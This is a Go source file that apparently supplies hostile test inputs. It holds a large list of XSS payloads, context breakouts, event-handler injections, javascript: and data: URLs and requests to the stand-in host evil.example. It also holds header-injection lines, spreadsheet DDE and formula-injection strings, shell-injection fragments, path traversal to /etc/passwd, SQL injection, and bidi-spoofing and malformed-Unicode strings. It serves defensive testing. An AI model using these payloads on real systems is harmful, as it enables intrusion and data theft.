// Package hostile is a list of strings that mean harm, for whatever a laptop, a file or a wire can set: markup that
// would run, ends of the contexts in which a page might put a string, control characters, marks that turn the reading
// direction, formulas of spreadsheets, names that break paths and records, and very long ones.
//
// A string that would run a script in a page sets globalThis.hacked there, or opens a dialog; one that would reach
// out asks the host evil.example. So a test has something to look for.
package hostile

import (
	"fmt"
	"strings"
)

// Host is what a string asks for that reaches out.
const Host = "evil.example"

// run is what every script does that gets the chance.
const run = "globalThis.hacked=1"

// Strings lists them all, 200 and some. They are the same at each call.
func Strings() []string {
	var all []string
	for _, group := range [][]string{markup(), breakouts(), handlers(), links(), templates(), controls(), directions(), letters(), formulas(), records(), long()} {
		all = append(all, group...)
	}
	return all
}

// Runs lists those that would run a script, or ask for something, in a page that shows them as they are.
func Runs() []string {
	var all []string
	for _, group := range [][]string{markup(), breakouts(), handlers(), links()} {
		all = append(all, group...)
	}
	return all
}

func markup() []string {
	return []string{
		"<script>" + run + "</script>",
		"<ScRiPt>" + run + "</sCrIpT>",
		"<script src=//" + Host + "/x.js></script>",
		"<script type=module>" + run + "</script>",
		"<<script>" + run + "//<</script>",
		"<scr<script>ipt>" + run + "</scr</script>ipt>",
		"<script\x00>" + run + "</script>",
		"<script/x>" + run + "</script>",
		"<svg><script>" + run + "</script></svg>",
		"<svg/onload=" + run + ">",
		"<svg><animate onbegin=" + run + " attributeName=x dur=1s>",
		"<math><mtext><script>" + run + "</script></mtext></math>",
		"<img src=x onerror=" + run + ">",
		"<img src=//" + Host + "/x.png>",
		"<image src=x onerror=" + run + ">",
		"<iframe src=javascript:" + run + "></iframe>",
		"<iframe srcdoc=\"<script>parent." + run + "</script>\"></iframe>",
		"<object data=//" + Host + "/x></object>",
		"<embed src=//" + Host + "/x>",
		"<link rel=stylesheet href=//" + Host + "/x.css>",
		"<style>@import '//" + Host + "/x.css';</style>",
		"<style>*{display:none!important}</style>",
		"<base href=//" + Host + "/>",
		"<meta http-equiv=refresh content='0;url=//" + Host + "/'>",
		"<form action=//" + Host + "/><input type=submit autofocus>",
		"<input autofocus onfocus=" + run + ">",
		"<select autofocus onfocus=" + run + "></select>",
		"<textarea autofocus onfocus=" + run + "></textarea>",
		"<details open ontoggle=" + run + ">",
		"<video><source onerror=" + run + "></video>",
		"<audio src=x onerror=" + run + ">",
		"<body onload=" + run + ">",
		"<marquee onstart=" + run + ">",
		"<template><script>" + run + "</script></template>",
		"<noscript><p title=\"</noscript><img src=x onerror=" + run + ">\">",
		"<xmp><script>" + run + "</script></xmp>",
		"<plaintext>",
		"<!--",
		"<![CDATA[<script>" + run + "</script>]]>",
		"<dialog open>Sign in again</dialog>",
		"<h1>Owned</h1>",
		"<table><tr><td>",
		"</td></tr></table><p>",
	}
}

// breakouts end the context in which a page might have put the string, then begin one that runs.
func breakouts() []string {
	return []string{
		"</title><script>" + run + "</script>",
		"</textarea><script>" + run + "</script>",
		"</script><script>" + run + "</script>",
		"</style><script>" + run + "</script>",
		"</option></select><script>" + run + "</script>",
		"</main></body></html><script>" + run + "</script>",
		"--><script>" + run + "</script>",
		"]]><script>" + run + "</script>",
		"\"><script>" + run + "</script>",
		"'><script>" + run + "</script>",
		"`><script>" + run + "</script>",
		"\"/><img src=x onerror=" + run + ">",
		"'/><img src=x onerror=" + run + ">",
		"\"}];" + run + ";[{\"",
		"';" + run + ";'",
		"\";" + run + ";\"",
		"`;" + run + ";`",
		"${" + run + "}",
		"\\\";" + run + ";//",
		"\\';" + run + ";//",
		"*/" + run + "/*",
		"\n" + run + "\n",
		"\u2028" + run + "\u2029",
		"data: x\n\nevent: done\ndata: " + run,
		"\r\n\r\n<script>" + run + "</script>",
		"x\r\nSet-Cookie: session=stolen",
		"x\r\nLocation: https://" + Host + "/",
	}
}

// handlers are attributes, for a page that forgets the quotes around its own.
func handlers() []string {
	var all []string
	for _, event := range []string{"onclick", "onfocus", "onmouseover", "onerror", "onload", "onanimationstart", "onpointerenter"} {
		all = append(all, "x "+event+"="+run, "\" "+event+"=\""+run, "' "+event+"='"+run+"' autofocus tabindex=1 x='")
	}
	return append(all, "\" style=\"position:fixed;inset:0;background:red\" x=\"", "' style='display:none' x='", "\" autofocus=\"", "x=y disabled")
}

func links() []string {
	return []string{
		"javascript:" + run,
		"JaVaScRiPt:" + run,
		"java\tscript:" + run,
		"java\nscript:" + run,
		" javascript:" + run,
		"\x01javascript:" + run,
		"javascript://%0a" + run,
		"data:text/html,<script>" + run + "</script>",
		"data:text/html;base64,PHNjcmlwdD5nbG9iYWxUaGlzLmhhY2tlZD0xPC9zY3JpcHQ+",
		"vbscript:msgbox(1)",
		"//" + Host + "/",
		"https://" + Host + "/",
		"\\\\" + Host + "\\share",
		"/\\" + Host + "/",
		"?next=https://" + Host + "/",
		"#<script>" + run + "</script>",
		"%3Cscript%3E" + run + "%3C/script%3E",
		"&lt;script&gt;" + run + "&lt;/script&gt;",
		"&#60;script&#62;" + run + "&#60;/script&#62;",
		"&#x3C;img src=x onerror=" + run + "&#x3E;",
		"\\u003cscript\\u003e" + run + "\\u003c/script\\u003e",
		"\\x3cscript\\x3e" + run + "\\x3c/script\\x3e",
		"+ADw-script+AD4-" + run + "+ADw-/script+AD4-", // UTF-7
	}
}

// templates are for engines that would look into a value.
func templates() []string {
	return []string{"{{.}}", "{{template \"layout\" .}}", "{{printf \"%s\" .Actor}}", "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{% raw %}", "%s%s%s%n", "%!d(string=x)", "$(id)", "`id`", "; id", "| id", "&& id"}
}

func controls() []string {
	all := []string{"\x00", "a\x00b", "\x1b[2J\x1b[31mred", "\x1b]0;title\x07", "\x1b]8;;https://" + Host + "\x07link\x1b]8;;\x07", "a\rb", "a\nb", "a\r\nb", "a\tb", "a\vb\fc", "\b\b\b\bxxxx", "\x7f\x7f", "\u009b31m", "\u0085", "\a\a\a"}
	return append(all, "a\u00adb", "\ufeffx", "x\u200by", "x\u200cy", "x\u200dy", "\u2060", "\ufffe", "\xff\xfe", "\xc3\x28", "\xed\xa0\x80", "\xf8\x88\x80\x80\x80", "x\xc0\xafy")
}

// directions turn what is read: a serial that looks like another one, a page that is read from the wrong side.
func directions() []string {
	return []string{"\u202eexe.gnp", "SER\u202e321", "\u202d\u202e\u202d", "\u2067abc", "\u2066\u2067\u2068x", "\u200fabc\u200e", "\u061cx", "שלום", "مرحبا 123", "a\u202eb\u202cc", "\u202a\u202b\u202c\u202c\u202c", "אבג-123-LAPTOP", strings.Repeat("\u202e", 60)}
}

// letters are many marks on one letter, wide ones, and those that look like others.
func letters() []string {
	return []string{"Z" + strings.Repeat("\u0351\u036b", 30) + "algo", "👩‍👩‍👧‍👦", "🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f", "ｆｕｌｌｗｉｄｔｈ", "аdmin", "ﷺ", "𒐫𒈙", "꧁꧂", strings.Repeat("\u0489", 40), "İıſK", "ÅÅ", "\U0001f469\u200d\U0001f4bb", "i̇", "ß", "ﬁ"}
}

// Formulas lists what a spreadsheet would carry out.
func Formulas() []string { return formulas() }

func formulas() []string {
	return []string{
		"=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"https://" + Host + "\",\"click\")", "=IMPORTXML(\"https://" + Host + "\",\"//a\")", "=WEBSERVICE(\"https://" + Host + "\")",
		"+1+1", "+cmd|' /C calc'!A0", "-1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "@A1", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\"=1+1", "=\"1\"", "＝1+1", "＋1", "－1", "＠x", "%0A=1+1", ";=1+1", ",=1+1",
		"DDE(\"cmd\";\"/C calc\";\"x\")", "=DDE(\"cmd\";\"/C calc\";\"x\")",
	}
}

// records are for whoever makes a path, a query, a line or a number of it.
func records() []string {
	return []string{"../../../etc/passwd", "..\\..\\windows", "/etc/shadow", "C:\\con", "nul", "a/b", ".", "..", "", " ", "null", "undefined", "NaN", "-0", "1e309", "true", "' OR 1=1--", "\"; DROP TABLE devices;--", "[object Object]", "__proto__", "constructor", "a,b;c\td", "\"quoted\"", "a\"\"b", "'", "\"", "\\", "*", "?a=b&c=d#e", "%00", "%2e%2e%2f", "state:failed image:sales", "^XA^FDlabel^FS^XZ", "~JR", "^", "~"}
}

func long() []string {
	return []string{strings.Repeat("A", 10_000), strings.Repeat("W", 300), strings.Repeat("long words ", 1000), strings.Repeat("<b>", 3000), strings.Repeat("\n", 5000), strings.Repeat("漢", 3400), strings.Repeat("-", 10_000), fmt.Sprintf("%010000d", 1)}
}
